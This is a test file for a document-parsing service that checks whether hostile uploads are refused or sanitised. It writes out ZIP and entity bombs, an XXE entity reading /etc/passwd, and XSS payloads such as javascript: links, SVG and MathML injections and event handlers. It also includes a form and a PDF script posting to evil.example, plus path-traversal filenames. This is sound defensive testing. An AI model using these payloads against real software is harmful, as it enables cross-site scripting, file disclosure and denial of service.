// Files made to do harm, through the real limited process: each is refused or cleaned, with a message that names it,
// within the limits, and the next file is read as if nothing had been.

import { strToU8, zipSync } from "fflate"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import type { ArticleParser } from "../../shared/application/ports.ts"
import { canonicalText, documentJson } from "../../shared/domain/document.ts"
import { say } from "./support/long.ts"
import { fixture, fixtures, startReaders } from "./support/reader.ts"

let parser: ArticleParser
beforeAll(async () => {
  parser = await startReaders()
})
afterAll(() => parser.close())

const utf8 = (text: string) => new TextEncoder().encode(text)
const word = (body: string, prolog = "") =>
  zipSync({
    "[Content_Types].xml": strToU8(
      `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    ),
    "_rels/.rels": strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    "word/document.xml": strToU8(
      `${prolog}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    ),
  })
const openDocument = (body: string, prolog = "") =>
  zipSync({
    mimetype: strToU8("application/vnd.oasis.opendocument.text"),
    "content.xml": strToU8(
      `${prolog}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>${body}</office:text></office:body></office:document-content>`,
    ),
  })
const nitf = (prolog: string, text: string) =>
  utf8(`<?xml version="1.0"?>${prolog}<nitf><body><body.content><p>${text}</p></body.content></body></nitf>`)
const laughs = `<!DOCTYPE nitf [<!ENTITY a "${"ha".repeat(100)}">${"bcdefghi"
  .split("")
  .map((name, index) => `<!ENTITY ${name} "${`&${"abcdefgh"[index]};`.repeat(10)}">`)
  .join("")}]>`
const pdf = (objects: readonly string[]) =>
  utf8(
    `%PDF-1.7\n${objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join("")}trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF`,
  )
const page = (content: string) => [
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
  `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
]

/** Which limit such a file meets first depends on the machine. */
const tooLong = /lines|longer than|more than|needs more memory|could not be read within/

describe("is refused, and says why", () => {
  test.each<[string, string, () => Uint8Array, RegExp]>([
    ["a ZIP bomb", "bomb.docx", () => word("A".repeat(300_000_000)), /expands to more than 128 MB/],
    ["a million paragraphs of text", "long.txt", () => utf8("A word.\n".repeat(1_000_000)), /1000001 lines/],
    ["a million paragraphs of HTML", "long.html", () => utf8("<p>A word.".repeat(1_000_000)), tooLong],
    [
      "a million paragraphs of Word",
      "long.docx",
      () => word("<w:p><w:r><w:t>A</w:t></w:r></w:p>".repeat(1_000_000)),
      tooLong,
    ],
    [
      "a million paragraphs in a row of a table",
      "long.csv",
      () => utf8(`title,text\nLong,"${"A word.\n".repeat(1_000_000)}"\n`),
      tooLong,
    ],
    [
      "a million paragraphs in a line of JSON",
      "long.jsonl",
      () => utf8(`${JSON.stringify({ title: "Long", text: "A word.\n".repeat(1_000_000) })}\n`),
      tooLong,
    ],
    [
      "a ZIP bomb of OpenDocument",
      "bomb.odt",
      () => openDocument("A".repeat(300_000_000)),
      /expands to more/,
    ],
    [
      "an entity bomb in OpenDocument",
      "laughs.odt",
      () => openDocument("<text:p>&i;</text:p>", laughs),
      /declares entities/,
    ],
    [
      "5,000 nested elements of OpenDocument",
      "deep.odt",
      () => openDocument("<text:section>".repeat(5000) + "</text:section>".repeat(5000)),
      /nested deeper/,
    ],
    ["100 MB in one line", "line.txt", () => new Uint8Array(100 * 1024 * 1024).fill(65), /larger than 64 MB/],
    ["60 MB in one line", "line.html", () => new Uint8Array(60 * 1024 * 1024).fill(65), tooLong],
    [
      "5,000 nested elements of XML",
      "deep.xml",
      () => nitf("", "<b>".repeat(5000) + "</b>".repeat(5000)),
      /nested deeper/,
    ],
    [
      "5,000 nested elements of Word",
      "deep.docx",
      () => word("<w:tbl>".repeat(5000) + "</w:tbl>".repeat(5000)),
      /nested deeper/,
    ],
    [
      "5,000 nested groups of RTF",
      "deep.rtf",
      () => utf8(`{\\rtf1 ${"{".repeat(5000)}a${"}".repeat(5000)}}`),
      /nested too deeply/,
    ],
    ["an entity bomb", "laughs.xml", () => nitf(laughs, "&i;"), /declares entities/],
    [
      "an entity bomb in Word",
      "laughs.docx",
      () => word("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", laughs),
      /declares entities/,
    ],
    [
      "an entity from outside",
      "outside.xml",
      () => nitf(`<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "&x;"),
      /declares entities/,
    ],
    [
      "an entity that nobody declared",
      "undefined.xml",
      () => nitf(`<!DOCTYPE nitf SYSTEM "http://evil.example/x.dtd">`, "&x;"),
      /damaged/,
    ],
    [
      "a scan",
      "scan.pdf",
      () => pdf(["<< /Type /Catalog /Pages 2 0 R >>", ...page("0 0 m 10 10 l S")]),
      /OCR/,
    ],
    ["no bytes at all", "empty.docx", () => new Uint8Array(), /is empty/],
    ["a text called a Word document", "notes.docx", () => utf8("Only text."), /not that of a \.docx file/],
    ["a Word document called a text", "notes.txt", () => fixture("libreoffice.docx"), /is an archive/],
    [
      "random bytes called a PDF",
      "noise.pdf",
      () => Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919) % 251),
      /damaged/,
    ],
  ])("%s", async (_, name, bytes, words) => {
    const start = performance.now()
    const result = await parser.parse({ name, bytes: bytes() })
    expect(
      result.ok
        ? canonicalText((result.value[0] ?? expect.fail()).document).slice(0, 200)
        : result.error.message,
    ).toMatch(words)
    if (!result.ok) expect(result.error.message).toContain(`“${name}”`)
    expect(performance.now() - start).toBeLessThan(60_000)
  })
})

describe("is cleaned", () => {
  const around = (payload: string) =>
    `<html><body><article><p>${"The two ministers spoke for an hour on Friday, the first such call. ".repeat(12)}</p>${payload}<p>${"Neither side gave details of what was said, as officials noted. ".repeat(12)}</p></article></body></html>`

  test.each([
    [
      "javascript: links",
      `<p><a href="javascript:alert(1)">Read</a> <a href=" jAvaScript&colon;alert(1)">more</a></p>`,
    ],
    ["data: links", `<p><a href="data:text/html,<script>alert(1)</script>">Read</a></p>`],
    [
      "SVG",
      `<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    ],
    [
      "MathML",
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
    ],
    [
      "handlers of events",
      `<p onclick="alert(1)" onmouseover=alert(1)>Text</p><img src=x onerror="alert(1)">`,
    ],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
    [
      "forms",
      `<form action="https://evil.example/steal"><input value="alert(1)"><button>alert(1)</button></form>`,
    ],
    [
      "frames",
      `<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/"></object>`,
    ],
    ["base", `<base href="https://evil.example/"><p><a href="steal">Read</a></p>`],
    [
      "styles and templates",
      `<style>body{background:url(https://evil.example/)}</style><template><script>alert(1)</script></template>`,
    ],
    [
      "remote images",
      `<img src="https://evil.example/pixel.gif" alt=""><picture><source srcset="https://evil.example/2"></picture>`,
    ],
  ])("%s", async (_, payload) => {
    const result = await parser.parse({ name: "page.html", bytes: utf8(around(payload)) })
    const [draft] = result.ok ? result.value : []
    const json = JSON.stringify(draft && documentJson(draft.document))
    expect(json).toContain("The two ministers spoke")
    expect(json).toContain("Neither side gave details")
    expect(json).not.toMatch(/alert\(1\)|javascript|evil\.example|<script|onerror/i)
  })

  test("5,000 nested elements, without a loss of text", async () => {
    const deep = `${"<div><ul><li>".repeat(1700)}deep down${"</li></ul></div>".repeat(1700)}`
    const result = await parser.parse({ name: "deep.html", bytes: utf8(around(deep)) })
    const [draft] = result.ok ? result.value : []
    expect(draft && canonicalText(draft.document)).toContain("Neither side gave details")
  })

  test("a PDF with scripts gives its text, and runs nothing", async () => {
    const script = "<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://evil.example')) >>"
    const text = "BT /F 12 Tf 50 700 Td (The two ministers spoke for an hour on Friday.) Tj ET"
    const bytes = pdf([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`, ...page(text)])
    const result = await parser.parse({ name: "script.pdf", bytes })
    const [draft] = result.ok ? result.value : []
    expect(draft && canonicalText(draft.document)).toBe("The two ministers spoke for an hour on Friday.")
  })

  test.each([
    ["../../../etc/passwd.txt", "passwd.txt"],
    ["C:\\Windows\\system32\\CON.txt", "CON.txt"],
    ["story\0.txt", "story.txt"],
    ["gpj.\u202etxt", "gpj.txt"],
    ["..", "Untitled"],
    ["NUL", "NUL"],
  ])("the name %j", async (name, shown) => {
    const result = await parser.parse({ name, bytes: utf8("Hello, world.") })
    expect(result.ok ? result.value[0]?.source.fileName : result.error.message).toBe(shown)
  })
})

describe("cut off", () => {
  const CUTS = 20

  test.each(fixtures)("%s, at 20 places: what is read is sound, what is refused is named", async (name) => {
    const whole = fixture(name)
    const start = performance.now()
    const results = await Promise.all(
      Array.from({ length: CUTS }, (_, cut) =>
        parser.parse({ name, bytes: whole.subarray(0, Math.floor((whole.length * cut) / CUTS)) }),
      ),
    )
    for (const result of results) {
      if (result.ok) for (const { document } of result.value) document.check()
      else {
        expect(result.error.message).toContain(`“${name}”`)
        expect(result.error.code).not.toMatch(/took-too-long|unavailable|too-complex/)
      }
    }
    const read = results.filter(({ ok }) => ok).length
    expect(results[0]?.ok).toBe(false)
    say(
      `${name.padEnd(24)} ${read} read, ${CUTS - read} refused, ${Math.round(performance.now() - start)} ms`,
    )
  })
})

test("a program called an article is read by what it is", async () => {
  const pdfAsText = await parser.parse({ name: "story.txt", bytes: fixture("chromium.pdf") })
  expect(pdfAsText.ok && pdfAsText.value[0]?.source.mediaType).toBe("application/pdf")
  const rtfAsWord = await parser.parse({ name: "story.doc", bytes: fixture("libreoffice.rtf") })
  expect(rtfAsWord.ok && rtfAsWord.value[0]?.source.mediaType).toBe("application/rtf")
})
